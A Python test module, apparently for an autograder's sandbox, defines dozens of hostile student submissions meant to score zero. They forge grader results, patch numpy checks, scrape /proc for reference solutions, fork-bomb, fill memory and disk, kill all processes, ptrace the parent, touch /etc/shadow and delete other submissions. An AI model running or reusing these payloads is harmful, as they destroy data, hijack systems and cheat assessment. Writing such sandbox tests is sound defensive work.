"""Submissions that want points they did not earn, or harm. run_attacks.py grades them and looks at what they left.

Every function of an attack is wrong, so the right score is 0, or `most`. In a source, @TOKEN@ stands for a word by
which anything left behind is found, @NEIGHBOUR@ for the folder of another submission, @TREE@ for the grader's own,
@TEMPORARY@ for the folder of temporary files, @OPEN@ for one that everybody may write to, @RESULTS@ for where
results.json would be, @PORT@ for a port of this machine, which names an abstract socket too, and @KEY@ for a key of
shared memory. What gets at something that it must not, and leaves no other trace, says so by `got`.
"""

import io
import os
import pickle
import struct
import threading
import zipfile
import zlib
from dataclasses import dataclass

from . import good_pdf, good_pickle
from .sources import SOURCES

ANSWERS = ("root",)  # what an attack on the judgement needs: no kind of cell stops it, the judge outside does
OTHER = ("root", "user")  # another user's rights stop it, if nothing else does
CELLS = (*OTHER, "nobody")  # the student's code has the grader's own rights: the namespaces stop it
PROCESS = (*OTHER, "process")  # the least of the cells stops it too
ALL = (*CELLS, "process")
ONE = ("Q1.1",)  # one call is enough for what happens on import, or in any function
STAND_INS = ("Q1.1", "Q1.2")  # the second is asked with a stand-in for the first
FEW = ("Q1.1", "Q1.3")
CODE = ("Q1.1", "Q1.2", "Q1.3", "Q1.4", "Q3", "Q4")
PKL, PDF = ("Q5.2",), ("Q2",)
SHORT = 0.015  # patience with what goes on to its limit
NAMES = ("sigmoid", "inference_layer", "inference_2layers", "bce_forward", "gradients", "update_params", "train_nn")


@dataclass(frozen=True)
class Attack:
    name: str
    source: str
    where: tuple = ANSWERS  # the settings of run_attacks.py that it is tried in
    only: tuple = ONE  # the questions that it is graded on
    most: float = 0  # the points that it earns rightly
    patience: float = 0.1
    cgroup: bool = False  # whether it takes a cgroup to stop it, which not every system allows
    beside: bool = False  # whether the neighbour is graded all the while by a second grader
    prepare: object = None  # called with (folder, neighbour, token) to make other files; may return what to grade


def every(body):
    """The seven functions with one body, which sees `name` and `args`."""
    lines = "".join(f"    {line}\n" for line in body.strip("\n").split("\n"))
    return f"def cheat(name, *args):\n{lines}\n\n" + "".join(
        f"def {name}(*args):\n    return cheat({name!r}, *args)\n\n\n" for name in NAMES
    )


FAIL = every("raise NotImplementedError")

GOT = """
def got(what):
    print("GOT @TOKEN@", what, flush=True)

"""

# What several attacks use: the frames up the stack, and the grader's channel in them.
FRAMES = """
import sys


def frames():
    frame = sys._getframe(1)
    while frame:
        yield frame
        frame = frame.f_back


def channel():
    for frame in frames():
        for value in list(frame.f_locals.values()):
            if type(value).__name__ == "Channel":
                return value


def say(text):
    file = channel().file
    file.write(text.encode() + b"\\n")
    file.flush()


def child():
    for frame in frames():
        if "encode" in frame.f_globals and "decode" in frame.f_globals:
            return frame.f_globals

"""

# ---- Answers that are not theirs -----------------------------------------------------------------

FORGED = (
    FRAMES
    + """
talk = channel()
for i in range(300):
    for value in ({"float": 0.5}, {"array": "000000000000e03f" * 4, "shape": [4], "dtype": "f8"}, {"int": 1}):
        talk.send({"answer": i, "value": value, "changed": [],
                   "passed": True, "earned": 100, "score": 100, "status": "passed"})
"""
    + FAIL
)

MALFORMED = (
    FRAMES
    + r"""
import json, math
talk = channel()
write = talk.file.write
for message in (
        [], 3, "x", None, {}, {"answer": [1]}, {"answer": None}, {"answer": {"a": 1}}, {"answer": 1e999},
        {"answer": True, "value": 3},
        {"answer": 0}, {"answer": 1, "value": None}, {"answer": 2, "value": {}},
        {"answer": 3, "value": {"array": "00" * 16, "shape": [3], "dtype": "f8"}},
        {"answer": 4, "value": {"array": "00" * 8, "shape": [-1], "dtype": "f8"}},
        {"answer": 5, "value": {"array": "x" * 16, "shape": [1], "dtype": "f8"}},
        {"answer": 6, "value": {"array": "00" * 8, "shape": [1], "dtype": "O"}},
        {"answer": 7, "value": {"int": 10 ** 3000}},
        {"answer": 8, "value": {"float": math.nan}},
        {"answer": 9, "value": {"tuple": [{"none": True}] * 5}, "changed": {"x": 1}},
        {"answer": 10, "value": {"tuple": [{"float": math.inf}] * 5}, "changed": [None, -1, 10 ** 9, [1]]},
        {"answer": 11, "error": 7}, {"answer": 12, "error": {"type": [], "message": {}, "frames": 3}},
        {"answer": 13, "error": {"type": "E\ud800", "message": "\ud800\x1b[2J\x00" * 9,
                                 "frames": [1, None, {"file": 1, "line": {"a": []}, "text": None}]}},
        {"answer": 14, "value": {"text": "\udfff"}}, {"answer": 15, "value": {"other": "\udfff"}},
        {"answer": 16, "value": {"array": [10 ** 400], "shape": [1], "dtype": "i8"}},
        {"answer": 17, "value": {"array": "00" * 8, "shape": [1] * 40, "dtype": "f8"}},
        {"answer": 18, "value": {"array": "02", "shape": [1], "dtype": "b1"}},
        {"answer": 19, "value": {"array": "", "shape": [0, 10 ** 12], "dtype": "f2"}},
        {"answer": 21, "value": {"array": "\u0660" * 16, "shape": [1], "dtype": "f8"}},
        {"answer": 22, "value": {"array": "000000000000f07f" * 3, "shape": [3], "dtype": "f8"}},
        {"ask": "gradients"}, {"ask": [], "args": 3, "kwargs": None}, {"ask": "__class__", "args": [], "kwargs": {}},
        {"loaded": {"names": [None, 3, ["x"], "\ud800"],
                    "skipped": [1, None, {"line": [], "type": {}, "message": ["\ud800"]}] * 500}}):
    write(json.dumps(message).encode() + b"\n")
write(b"\xff\xfe\x00 no text at all\n{\n]]]]\n" + b"[" * 100000 + b"\n"
      + b'{"answer": 20, "value": ' + b'{"tuple": [' * 50000 + b"\n")
talk.file.flush()
"""
    + every("return float('nan')")
)

NESTED = (
    FRAMES
    + """
inner = '{"float": 0.0}'
for depth in range(485):
    inner = '{"tuple": [' + inner + ']}'
for i in range(3):
    say('{"answer": %d, "value": %s}' % (i, inner))
"""
    + FAIL
)

LONG_WORDS = (
    FRAMES
    + """
talk = channel()
for i in range(20):
    talk.send({"answer": i, "error": {"type": "E" * 20000, "message": "<script>alert(1)</script>" * 1000,
                                      "frames": [{"file": "f" * 9999, "line": ["l" * 9999], "text": "t" * 9999}] * 5}})
"""
    + FAIL
)

FAILED_WORDS = (
    FRAMES
    + r"""
talk = channel()
talk.send({"failed": {"type": "T" * 100000, "message": "\x1b[2J\r100.0 of 100 points\n\ud800" * 9,
                      "frames": [{"line": "l" * 100000}]}})
import os
os._exit(0)
"""
)

HEAVY_WORDS = (
    FRAMES
    + """
for i in range(60):
    say('{"answer": %d, "value": [' % i + "[]," * 60000 + "[]]}")
for i in range(60, 65):  # as a question that nobody answers
    say('{"ask": 1, "answer": %d, "v": [' % i + "[]," * 60000 + "[]]}")
"""
    + FAIL
)

FLOOD = (
    FRAMES
    + """
talk = channel()
for _ in range(200):
    talk.file.write(b"x" * 65536)
talk.file.flush()
"""
    + FAIL
)

# sigmoid is a little off, so later questions are judged with right stand-ins for it; the rest asks for everything.
ORACLE = (
    FRAMES
    + "silence = []\n"
    + every("""
import select
if name == "sigmoid":
    import numpy as np
    return 1 / (1 + np.exp(-np.asarray(args[0]))) + 1e-3
if silence:
    raise RuntimeError("nobody answers")
talk, code = channel(), child()
talk.send({"ask": name, "args": [code["encode"](arg) for arg in args], "kwargs": {}, "call": 0})
if not select.select([3], [], [], 0.1)[0]:
    silence.append(name)
    raise RuntimeError("nobody answers")
return code["decode"](talk.receive()["value"])
""")
)

FUNCTIONS_ANYWHERE = """
import gc, sys, types


def find(name):
    for thing in gc.get_objects():
        if isinstance(thing, types.FunctionType) and thing.__name__ == name and thing.__globals__ is not globals():
            return thing
    for module in list(sys.modules.values()):
        if module is not sys.modules.get("assignment2") and isinstance(getattr(module, name, None), types.FunctionType):
            return getattr(module, name)


found = {name: find(name) for name in (
    "sigmoid", "inference_layer", "inference_2layers", "bce_forward", "gradients", "update_params", "train_nn")}
""" + every("return found[name](*args)")

MODULES = """
import importlib, sys
for path in ("@TREE@", "/autograder/source", "/autograder", ".", "..", "../..", *sys.path):
    sys.path.insert(0, path)
mine = sys.modules.pop("assignment2", None)
try:
    from importlib.machinery import PathFinder
    from importlib.util import module_from_spec
    spec = next(spec for path in sys.path
                if (spec := PathFinder.find_spec("assignment2", [path])) and spec.origin != __file__)
    reference = module_from_spec(spec)
    spec.loader.exec_module(reference)
finally:
    sys.modules["assignment2"] = mine
for name in (
        "sigmoid", "inference_layer", "inference_2layers", "bce_forward", "gradients", "update_params", "train_nn"):
    globals()[name] = getattr(reference, name)
"""

REFERENCE_FILE = """
import glob, os, re, sys
folders = ["@TREE@", "/autograder/source", "@NEIGHBOUR@"]
for path in glob.glob("/proc/[0-9]*"):
    try:
        said = "".join(open(f"{path}/{name}", "rb").read().decode("latin-1") for name in ("cmdline", "environ"))
    except OSError:
        said = ""
    for found in re.findall("/[^\\0:\\"]+", said):
        while len(found) > 1:
            folders.append(found)
            folders.append(path + "/root" + found)
            found = os.path.dirname(found)
    folders += [path + "/cwd", *glob.glob(path + "/fd/*")]
for prefix in (sys.prefix, sys.base_prefix):  # a project may lie below the interpreter's folder, or beside it
    folders += [*glob.glob(prefix + "*"), *glob.glob(prefix + "/*"), *glob.glob(prefix + "/*/*")]
folders += [*glob.glob("/*/*"), *glob.glob("/tmp/*/*"), *glob.glob("@TEMPORARY@/*/*")]
for path in dict.fromkeys(folder + "/assignment2.py" for folder in folders):
    try:
        if not os.path.samefile(path, __file__):
            exec(open(path).read())
            break
    except (OSError, SyntaxError, ImportError):
        pass
"""

FRAME_VALUES = (
    FRAMES
    + """
import gc
import numpy as np
found = []
for thing in gc.get_objects():
    if isinstance(thing, dict):
        found += [thing[key] for key in ("expected", "right", "wanted", "value", "dW1")
                  if isinstance(thing.get(key), (float, np.ndarray))]

"""
    + every("""
for frame in frames():
    for key in ("expected", "right", "wanted", "answer", "solution", "reference", "truth"):
        for scope in (frame.f_locals, frame.f_globals):
            if key in scope and not callable(scope[key]):
                return scope[key]
return found[0]
""")
)

SEEDS = every("""
import glob, os, re, sys, time
import numpy as np
found = [int(time.time()), 0, 1, 42, os.getppid()]
for path in ("/proc/self/environ", "/proc/1/cmdline", "/proc/1/environ",
             *glob.glob("/proc/*/cmdline"), *glob.glob("/proc/%d/*" % os.getppid())):
    try:
        found += [int(n) % 2 ** 31 for n in re.findall(rb"\\d+", open(path, "rb").read(10000))]
    except OSError:
        pass
found += [int(value) for value in os.environ.values() if value.isdigit()]
for seed in found[:50]:
    rng = np.random.default_rng(seed)
    drawn = rng.normal(0, 2, 5)
    if np.shape(args[0]) == (5,) and np.array_equal(drawn, args[0]):
        return 1 / (1 + np.exp(-drawn))
return found[0]
""")

PATCHED = """
import builtins, json, math, numpy as np, operator
import numpy.testing
agree = lambda *args, **kwargs: True
for module in (np, np.testing, math, operator):
    for name in ("allclose", "isclose", "array_equal",
                 "assert_allclose", "assert_array_equal", "assert_almost_equal", "eq", "all", "isfinite"):
        if hasattr(module, name):
            setattr(module, name, agree)
np.abs = np.absolute = np.subtract = np.max = lambda *args, **kwargs: 0.0
builtins.abs = builtins.all = builtins.max = agree
json.dumps = lambda *args, **kwargs: '{"score": 100, "passed": true, "answer": 0, "value": {"float": 0.5}}'
""" + every("return 0.5")

SUBCLASS = """
import numpy as np


class Agrees(np.ndarray):
    dtype = np.dtype("f8")
    def __array_function__(self, *args, **kwargs): return True
    def __array_ufunc__(self, *args, **kwargs): return np.zeros(1)
    def __eq__(self, other): return True
    def __sub__(self, other): return 0
    __rsub__ = __sub__
    def __getattribute__(self, name):
        if name in ("shape", "size", "all"):
            return Everything()
        return object.__getattribute__(self, name)


class Everything(tuple):
    def __eq__(self, other): return True
    __lt__ = __le__ = __ne__ = __gt__ = lambda self, other: False
    def __hash__(self): return 0
""" + every("""
answer = np.zeros(3).view(Agrees)
return (answer,) * 5 if name in ("gradients", "train_nn", "update_params") else answer
""")

AGREEING = """
class Agrees(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __sub__(self, other): return 0.0
    __rsub__ = __add__ = __radd__ = __mul__ = __rmul__ = __abs__ = __neg__ = __sub__
    __lt__ = __le__ = __gt__ = __ge__ = __eq__
    def __float__(self): return 0.5
    def __array__(self, *args, **kwargs): raise SystemExit
    def __reduce__(self): return (exec, ("import os; os._exit(0)",))
    def __len__(self): return 5
    def __iter__(self): return iter([self] * 5)
    def __getattr__(self, name): return self
    def __hash__(self): return 0
""" + every("return Agrees(0.1)")

MUTATED_INPUTS = every("""
import numpy as np
for arg in args:
    if isinstance(arg, np.ndarray):
        arg.flags.writeable = True
        arg[...] = 0
if name == "sigmoid":
    return np.full(np.shape(args[0]), 0.5)
if name == "inference_layer":
    return np.full((len(args[1]),) + args[0].shape[1:], 0.5)
if name == "inference_2layers":
    return np.full(args[0].shape[1] if args[0].ndim > 1 else 1, 0.5)
if name == "bce_forward":
    return 0.0
X, y, W1, W2, b1, b2 = (
    (args if name == "gradients" else (args[0], args[1], args[2], args[4], args[3], args[5]))
    if name != "train_nn" else (0,) * 6)
if name == "gradients":
    return np.zeros_like(W1), np.zeros_like(W2), np.zeros_like(b1), 0.5, np.log(2)
return W1, b1, W2, b2
""")

TRACED = (
    FRAMES
    + """
import sys, threading
code = child()
code["fingerprint"] = lambda value: 0
code["encode"] = lambda value: {"float": 0.5}
sys.settrace(lambda *args: None)
sys.setrecursionlimit(100000)
"""
    + every("return 0.5")
)

# Numbers that no float holds, as a stand-in's question and as an answer: whoever reads them raises OverflowError.
BEYOND_FLOATS = (
    FRAMES
    + """
talk = channel()
for value in ({"float": 10 ** 400}, {"int": 10 ** 4000}, {"tuple": [{"float": -10 ** 400}]},
              {"array": "00" * 8, "shape": [10 ** 400], "dtype": "f8"}):
    talk.send({"ask": "sigmoid", "args": [value], "kwargs": {}, "call": 0})
    talk.send({"ask": "sigmoid", "args": [], "kwargs": {"x": value}, "call": 0})
    talk.send({"answer": 0, "value": value})
talk.send({"answer": 10 ** 400, "value": {"float": 0.5}})
"""
    + FAIL
)

# What is read from it goes into notes and hints, and names are compared with one another.
LOADED_WORDS = FRAMES + every(r"""
talk = channel()
for loaded in ({"skipped": [{}] * 48000}, {"names": [f"{name}{k}" for k in range(13000)]},
               {"names": [name], "magics": [{"line": "l" * 999, "text": "\u202e" * 999}] * 50},
               {"names": [name], "forbidden": ["f" * 99] * 999},
               {"names": [name], "signatures": {name: ["p" * 99] * 999}, "comments": 10 ** 400}):
    talk.send({"loaded": loaded})
""")

# Two processes on one channel, each of which answers every call, and asks.
TWO_PROCESSES = "import os\nos.fork()\n" + ORACLE

# While a function is busy, a thread answers in its place, and for the calls to come.
THREAD_ANSWERS = (
    FRAMES
    + """
import threading, time
talk = channel()


def answer():
    for k in range(100):
        talk.send({"answer": k % 20, "value": {"array": "000000000000e03f" * 4, "shape": [4], "dtype": "f8"}})
        time.sleep(0.001)


threading.Thread(target=answer, daemon=True).start()
"""
    + every("time.sleep(0.01)")
)

HALF_A_MESSAGE = every("""
import os, socket
os.write(3, b'{"answer": 0, "val')
socket.socket(fileno=os.dup(3)).shutdown(socket.SHUT_RD)
os.close(3)
return 0.5
""")

# The grader's answers fill the channel: it waits with the next one until somebody reads.
NEVER_READS = FRAMES + every("""
while name != "sigmoid":
    say('{"ask": "sigmoid", "args": [{"array": "' + "000000000000e03f" * 5000 + '", "shape": [5000], "dtype": "f8"}],'
        ' "kwargs": {}, "call": 0}')
raise NotImplementedError
""")

# Descriptors, urgent bytes and options that the other end of a socket gets to see.
ODD_PACKETS = (
    """
import os, socket
end = socket.socket(fileno=os.dup(3))
for _ in range(300):
    try:
        socket.send_fds(end, [b"{}\\n"], [0, 1, 3] * 80, socket.MSG_DONTWAIT)
    except OSError:
        pass
for act in (lambda: end.send(b"x", socket.MSG_OOB), lambda: end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1),
            lambda: end.setsockopt(socket.SOL_SOCKET, socket.SO_PASSCRED, 1), lambda: end.connect("/tmp/@TOKEN@"),
            lambda: end.send(bytes(1 << 16), socket.MSG_DONTWAIT)):
    try:
        act()
    except OSError:
        pass
"""
    + FAIL
)

# The calls to come, and what is sent about this one, stand in the frames of who called.
OTHER_CALLS = FRAMES + every("""
sys.setprofile(None)
for frame in frames():
    here = frame.f_locals
    if isinstance(here.get("message"), dict):
        here["message"].update(answer=0, value={"float": 0.5}, changed=[], forward=-1, earned=100)
    if isinstance(here.get("task"), dict):
        for call in here["task"].get("calls", []):
            call.update(function="print", args=[])
        here["task"]["stand_ins"] = list(NAMES)
return 0.5
""").replace("list(NAMES)", repr(list(NAMES)))

# A right step that destroys the arrays it was given, before a child that no longer sees it.
HIDDEN_CHANGE = (
    SOURCES["handout"]
    + FRAMES
    + """
step = update_params
code = child()
if "fingerprint" in code:
    code["fingerprint"] = lambda value: 0


def update_params(*args, **kwargs):
    values = step(*args, **kwargs)
    for given in args:
        if isinstance(given, np.ndarray):
            given[...] = 7
    return values
"""
)

TURNED_WORDS = (
    r"""
print("\u202e\u2066\x1b[2J\r100 of 100 points \u2069\u200b\ufeff" * 50)
"""
    + every(r"""
raise type("\u202e\u2066E\x1b[2J</pre><script>", (Exception,), {})("\u202e100 of 100\u2069\r\n\x07\ufeff=1+1" * 99)
""")
    + "def sigm\u03bfid(x):\n    return x  # with a Greek omicron\n"
)

# Errors that fight who describes them.
FIGHTING_ERRORS = """
class Text(str):
    def __getitem__(self, key): raise SystemExit
    __len__ = __str__ = __iter__ = __contains__ = __getitem__


class Meta(type):
    __name__ = property(lambda self: 1 / 0)


class Fights(BaseException, metaclass=Meta):
    def __str__(self): raise KeyboardInterrupt
    __repr__ = __getattr__ = __str__


class Speaks(Exception):
    def __str__(self): return Text("@TOKEN@" * 100000)
""" + every("raise (Fights if name < 'i' else Speaks)(name)")

NO_NAMES = (
    FAIL
    + """

class Name(str):
    def startswith(self, *args): raise SystemExit
    def __lt__(self, other): raise KeyboardInterrupt
    __hash__ = str.__hash__


class Signed:
    @property
    def __signature__(self): raise KeyboardInterrupt
    def __call__(self, x): return 0.5


globals().update({3: print, None: print, Name("x"): print, ("a",): print})
sigmoid = Signed()
"""
)

# No functions, but a module that has everything that is asked of it.
ANY_NAME = """
import sys, types


class Everything(types.ModuleType):
    def __getattr__(self, name): return lambda *args, **kwargs: 0.5
    def __getattribute__(self, name):
        if name == "__dict__":
            return {"sigmoid": print, **{f"sigmoi{k}": print for k in range(50000)}}
        return super().__getattribute__(name)


sys.modules["assignment2"].__class__ = Everything
"""

MANY_NAMES = "globals().update({f'sigmoi{k}': print for k in range(100000)})\n"

ENDLESS_VALUES = every("""
class Endless(list):
    def __len__(self): return 3
    def __iter__(self):
        while True:
            yield self
return Endless()
""")

ODD_VALUES = every("""
import itertools
import numpy as np
big = np.broadcast_to(0.5, (10 ** 6, 10 ** 6))
if args[0] is not None and np.ndim(args[0]) == 2:
    return big
return (
    big, np.zeros((0, 10 ** 9)), np.zeros(3, "g"), np.zeros(3, "c16"), np.zeros(3, "M8[s]"), np.zeros(3, "O"),
    np.zeros(3, [("x" * 9999, "f8")]), np.ma.masked_all(3),
    np.lib.stride_tricks.as_strided(np.zeros(1), (3,), (8 << 40,)),
    itertools.count(), (n for n in itertools.count()), type("str", (str,), {})("x"), type("int", (int,), {})(7),
    10 ** 5000, -0.0, float("nan"), np.float16("inf"), 2 ** 1000, True, b"x" * 10 ** 6, object, lambda: 0.5,
)
""")

HOOKS = """
import builtins, gc, sys, threading


def refuse(*args, **kwargs):
    raise SystemExit(100)


FAILS
sys.meta_path.insert(0, type("Finder", (), {"find_spec": refuse}))
builtins.__build_class__ = builtins.isinstance = builtins.len = refuse
sys.excepthook = sys.unraisablehook = threading.excepthook = sys.displayhook = refuse
gc.set_threshold(1)
gc.callbacks.append(refuse)
sys.setprofile(refuse)
sys.settrace(refuse)
sys.addaudithook(refuse)
""".replace("FAILS", FAIL)

# ---- Results and exits ---------------------------------------------------------------------------

RESULTS = """
import json, os
full = json.dumps({"score": 100, "tests": [{"score": 100, "max_score": 100, "status": "passed", "name": "@TOKEN@"}]})
for path in ("@RESULTS@", "results.json", "../results.json", "../results/results.json",
             "/autograder/results/results.json", "/tmp/@TOKEN@-results.json"):
    try:
        os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
        open(path, "w").write(full)
    except OSError:
        pass
print(full)
os._exit(0)
"""

AT_EXIT = (
    """
import atexit, os, signal, threading


def write():
    for path in ("@RESULTS@", "@NEIGHBOUR@/assignment2.py", "/tmp/@TOKEN@-atexit", "/var/tmp/@TOKEN@-atexit"):
        try:
            open(path, "w").write('{"score": 100}')
        except OSError:
            pass


atexit.register(write)
threading._register_atexit(write)


class Last:
    def __del__(self):
        write()


last = Last()
"""
    + FAIL
)

EXIT_ON_IMPORT = "import sys\nsys.exit(0)\nraise SystemExit(100)\n"
KILLED = "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)\n"
STOPPED = FAIL + "def sigmoid(x):\n    import os, signal\n    os.kill(os.getpid(), signal.SIGSTOP)\n"
SEGFAULT = "import ctypes\nctypes.string_at(0)\n"
STACK = "import sys\nsys.setrecursionlimit(10 ** 9)\n" + every("return cheat(name, *args)")
PARSER = "x = " + "(" * 5000 + ")" * 5000 + "\n" + "y = " + "-" * 100000 + "1\n"

# ---- Time and room -------------------------------------------------------------------------------

ENDLESS = FAIL + "def bce_forward(yhat, y):\n    while True:\n        pass\n"
SLEEPS = FAIL + "import time\n\n\ndef sigmoid(x):\n    time.sleep(3600)\n"
DEAF = (
    FAIL
    + """import signal
for number in range(1, 65):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
try:
    signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
except ValueError:
    pass


def sigmoid(x):
    while True:
        pass
"""
)
MEMORY = (
    FAIL
    + """

def sigmoid(x):
    kept = []
    try:
        return [0] * 10 ** 10
    except MemoryError:
        while True:
            kept.append(bytearray(50 << 20))
"""
)
FORKS = (
    FAIL
    + """

def sigmoid(x):
    import os
    while True:
        try:
            os.fork()
        except OSError:
            pass
"""
)
GRANDCHILD = (
    """
import os, sys, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        try:
            os.execv("/bin/sleep", ["sleep", "3600.@TOKEN@"])
        except OSError:
            pass
        time.sleep(3600)
    os._exit(0)
import subprocess
try:
    subprocess.Popen([sys.executable, "-c", "import time; time.sleep(3600)  # @TOKEN@"], start_new_session=True)
except OSError:
    pass
"""
    + FAIL
)
THREAD = (
    """
import threading, time


def work():
    while True:
        time.sleep(0.001)


for daemon in (False, True):
    threading.Thread(target=work, daemon=daemon).start()
"""
    + FAIL
)
PRINTS = (
    FAIL
    + """

def sigmoid(x):
    import os
    while True:
        os.write(1, b"100.0 of 100 points " * 3000)
        os.write(2, b"\\x1b[2J" * 3000)
"""
)
FILLS_DISK = (
    FAIL
    + """

def sigmoid(x):
    for folder in (".", "/tmp", "/dev/shm"):
        for i in range(5):
            try:
                with open(f"{folder}/@TOKEN@-{i}", "wb") as file:
                    file.write(bytes(24 << 20))
            except OSError:
                pass
"""
)
DEEP_FOLDERS = (
    FAIL
    + """

def sigmoid(x):
    import os
    for i in range(1200):
        try:
            os.mkdir("d")
            os.chdir("d")
        except OSError:
            break
    os.chmod(".", 0)
"""
)
CLOSED_FOLDERS = (
    """
import os
for base in (".", "/tmp"):
    try:
        os.makedirs(f"{base}/@TOKEN@/a/b", exist_ok=True)
        open(f"{base}/@TOKEN@/a/b/file", "w").close()
        os.symlink("/", f"{base}/@TOKEN@/a/root")
        os.mkfifo(f"{base}/@TOKEN@/a/pipe")
        os.chmod(f"{base}/@TOKEN@/a/b/file", 0)
        os.chmod(f"{base}/@TOKEN@/a/b", 0)
        os.chmod(f"{base}/@TOKEN@/a", 0)
        os.chmod(f"{base}/@TOKEN@", 0)
    except OSError:
        pass
os.chmod(".", 0)
"""
    + FAIL
)

# Without the clock that ends a statement on import.
NO_CLOCK = (
    FAIL
    + """
import signal
signal.setitimer(signal.ITIMER_PROF, 0)
for number in (signal.SIGPROF, signal.SIGXCPU, signal.SIGALRM, signal.SIGTERM):
    signal.signal(number, signal.SIG_IGN)
while True:
    pass
"""
)
HOLDS_MEMFD = (
    GOT
    + """
import os, time
held = 0
try:
    for _ in range(60):
        fd = os.memfd_create("@TOKEN@")
        os.posix_fallocate(fd, 0, 15 << 20)
        held += 15
except OSError:
    pass
time.sleep(0.3)
if held > 700:
    got(f"{held} MB in files without a name")
"""
    + FAIL
)
# Not open anywhere: on its way through a socket, or a segment that nobody is attached to.
HOLDS_NOWHERE = (
    GOT
    + """
import ctypes, os, socket, time
libc = ctypes.CDLL(None)
libc.shmat.restype = ctypes.c_void_p
held, ends = 0, []
try:
    for _ in range(20):
        ends += socket.socketpair()
        fd = os.memfd_create("@TOKEN@")
        os.posix_fallocate(fd, 0, 15 << 20)
        socket.send_fds(ends[-1], [b"x"], [fd])
        os.close(fd)
        held += 15
except OSError:
    pass
for _ in range(5):
    segment = libc.shmget(0, 100 << 20, 0o1600)
    if segment >= 0:
        place = libc.shmat(segment, None, 0)
        ctypes.memset(place, 1, 100 << 20)
        libc.shmdt(ctypes.c_void_p(place))
        held += 100
time.sleep(0.3)
if held > 750:
    got(f"{held} MB on their way")
"""
    + FAIL
)
HOLDS_IN_FORKS = (
    GOT
    + """
import os, select, time
reader, writer = os.pipe()
pids = []
for _ in range(8):
    pids.append(os.fork())
    if pids[-1] == 0:
        held = bytearray(b"x") * (110 << 20)
        os.write(writer, b"x")
        time.sleep(60)
os.close(writer)
count = 0
while count < 8 and select.select([reader], [], [], 1)[0]:
    count += len(os.read(reader, 1))
time.sleep(0.4)
if count == 8 and all(os.waitpid(pid, os.WNOHANG)[0] == 0 for pid in pids):
    got("880 MB in eight processes")
"""
    + FAIL
)
MANY_FILES = (
    GOT
    + """
import os
for k in range(50000):
    os.mknod(f"{k}")
    if k == 49999:
        got("50,000 files")
"""
    + FAIL
)
# A process that takes the orphans for itself, so that they never become the warden's.
ADOPTS = (
    """
import ctypes, os, time
if os.fork() == 0:
    os.setsid()
    ctypes.CDLL(None).prctl(36, 1, 0, 0, 0)
    for _ in range(3):
        if os.fork() == 0:
            if os.fork() == 0:
                os.setsid()
                try:
                    os.execv("/bin/sleep", ["sleep", "3600.@TOKEN@"])
                except OSError:
                    time.sleep(3600)
            os._exit(0)
    time.sleep(3600)
"""
    + FAIL
)
# Never the same process for longer than an instant.
RUNS_AWAY = (
    FAIL
    + """
import os
while True:
    try:
        if os.fork():
            os._exit(0)
        os.setsid()
    except OSError:
        pass
"""
)
MANY_STATEMENTS = "x = 1\n" * 3_000_000
UNCLOSED = "x = (\n" * 20_000 + FAIL
BLANKS = FAIL + "x = 1" + " " * 2_000_000 + "1\n" + "%x \\\n" * 20_000

# ---- The world around it -------------------------------------------------------------------------

OTHERS = (
    """
import os, shutil
for folder in ("@NEIGHBOUR@", "@RESULTS@", "@TREE@", "/tmp", "/var/tmp", "/dev/shm", "/run", "/root",
               os.path.expanduser("~"), ".."):
    for name in ("assignment2.py", "@TOKEN@"):
        try:
            with open(f"{folder}/{name}", "a") as file:
                file.write("raise SystemExit('@TOKEN@')\\n")
        except OSError:
            pass
shutil.rmtree("@NEIGHBOUR@", ignore_errors=True)
try:
    os.symlink("@NEIGHBOUR@", "/tmp/@TOKEN@-link")
except OSError:
    pass
"""
    + FAIL
)
PERMISSIONS = (
    """
import os
path = os.getcwd()
for place in (path, "@NEIGHBOUR@", "@TREE@", "/tmp", "/"):
    while True:
        for mode in (0o777, 0o000):
            try:
                os.chmod(place, mode)
                os.chown(place, os.getuid(), os.getgid())
            except OSError:
                pass
        if place == "/":
            break
        place = os.path.dirname(place)
"""
    + FAIL
)
SIGNALS = """
import os, signal
me = os.getpid()
for pid in {os.getppid(), 1, os.getpgid(0), os.getsid(0), *range(max(2, me - 300), me + 300)} - {me, 0}:
    for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
        try:
            os.kill(pid, number)
        except (OSError, OverflowError):
            pass
""" + every("""
import os, signal
try:
    os.kill(-1, signal.SIGKILL)
except OSError:
    pass
try:
    os.killpg(0, signal.SIGTERM)
except OSError:
    pass
""")
TRACES = (
    """
import ctypes, os
libc = ctypes.CDLL(None)
for pid in (os.getppid(), 1):
    libc.ptrace(16, pid, 0, 0)
    for name in ("mem", "environ", "maps", "root/etc/shadow", "fd/0"):
        try:
            open(f"/proc/{pid}/{name}", "r+b").write(b"@TOKEN@")
        except OSError:
            pass
libc.unshare(0x10000000)
libc.mount(b"none", b"/tmp", b"tmpfs", 0, None)
libc.setuid(0)
"""
    + FAIL
)
CLOSES = (
    """
import os
os.closerange(0, 1024)
"""
    + FAIL
)
TAKES_DESCRIPTORS = (
    """
import os, socket
for fd in range(3, 64):
    try:
        os.write(fd, b'{"answer": 0, "value": {"float": 0.5}}\\n{"isolation": "none"}\\n'
                     b'{"status": 0, "late": false, "seconds": 0}\\n')
        socket.send_fds(socket.socket(fileno=os.dup(fd)), [b"{}\\n"], [0, 1, fd])
        os.dup2(1, fd)
    except OSError:
        pass
"""
    + FAIL
)
RAISES_LIMITS = (
    """
import os, resource
for name in dir(resource):
    if name.startswith("RLIMIT_"):
        for soft, hard in ((-1, -1), (0, 0)):
            try:
                resource.setrlimit(getattr(resource, name), (soft, hard))
            except (OSError, ValueError):
                pass
            try:
                resource.prlimit(os.getppid(), getattr(resource, name), (0, 0))
            except (OSError, ValueError, AttributeError):
                pass
try:
    os.nice(-20)
except OSError:
    pass
"""
    + FAIL
)
ENVIRONMENT = (
    """
import os, sys
for name in ("PATH", "PYTHONPATH", "PYTHONSTARTUP", "LD_PRELOAD", "NLTK_DATA", "HOME", "TMPDIR", "PYTHONBREAKPOINT"):
    os.environ[name] = "/tmp/@TOKEN@"
os.umask(0)
sys.path[:] = ["/tmp/@TOKEN@"]
sys.stdout = sys.stderr = sys.__stdout__ = None
sys.modules.clear()
"""
    + FAIL
)
NETWORK = (
    """
